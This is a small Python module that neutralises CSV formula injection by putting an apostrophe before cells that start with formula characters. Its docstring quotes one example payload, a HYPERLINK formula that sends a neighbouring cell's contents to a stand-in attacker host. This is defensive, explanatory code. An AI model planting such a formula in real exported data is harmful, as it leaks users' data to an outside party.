"""Cells a spreadsheet will not run as formulas (CSV injection).

Excel, LibreOffice and Google Sheets read a CSV cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, after a tab or carriage return, the same) as a formula: a title
``=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")`` becomes a link that sends the
neighbouring cells away. Such a cell gets an apostrophe in front, which the spreadsheet shows
as text (the OWASP advice); a plain number (``-12``, ``+3.5``) stays a number."""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: str) -> str:
    """``value`` as a cell no spreadsheet runs (see the module)."""
    if value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value
